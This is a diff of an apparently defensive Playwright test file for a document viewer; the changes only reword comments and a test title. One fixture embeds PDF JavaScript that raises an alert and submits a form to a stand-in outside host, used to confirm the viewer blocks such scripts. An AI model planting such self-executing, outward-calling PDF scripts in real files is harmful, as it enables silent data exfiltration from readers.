@@ -68,7 +68,7 @@ test('every kind of file is shown, or says why it cannot be [DVW-1, MVW-3] [REA-
     await expect(page.getByRole('link', { name: new RegExp(`${name}.*${sentence}`, 's') }).first()).toBeVisible();
 });
 
-/** One pixel, stored in a way that no program knows. */
+/** One pixel in a compression that no program supports. */
 function makeUnknownTiff(): Buffer {
   const tags = [
     [256, 4, 1],
@@ -129,7 +129,7 @@ test('a PDF of 117 pages keeps only the pages near the visible one, each within 
   expect(Math.max(...sizes)).toBeLessThanOrEqual(16_777_216);
 });
 
-test('PDFs that carry scripts run none and ask nobody outside [SEC-37]', async ({ page }) => {
+test('scripts in PDFs do not run, and PDFs load nothing from outside [SEC-37]', async ({ page }) => {
   const outside: string[] = [];
   const dialogs: string[] = [];
   const { origin } = new URL(process.env.BASE_URL ?? '');
@@ -156,13 +156,13 @@ test('PDFs that carry scripts run none and ask nobody outside [SEC-37]', async (
   }
   expect(outside).toEqual([]);
   expect(dialogs).toEqual([]);
-  // what a PDF could never do, our own policy forbids besides
+  // the content security policy would block it as well
   const policy = (await page.request.get('/dashboard')).headers()['content-security-policy'];
   expect(policy).toMatch(/script-src 'self';/);
   expect(policy).not.toContain('unsafe-eval');
 });
 
-/** A page that, opened, runs a script, opens a site, submits a form and loads a picture from outside. */
+/** A page that on opening runs a script, opens a site, submits a form and loads a picture from outside. */
 function callingPdf(): TestFile {
   const script = `(app.alert\\('run'\\); this.submitForm\\('https://outside.example/submit'\\); globalThis.scriptRan = true;)`;
   const { buffer } = makePdf('It calls out');
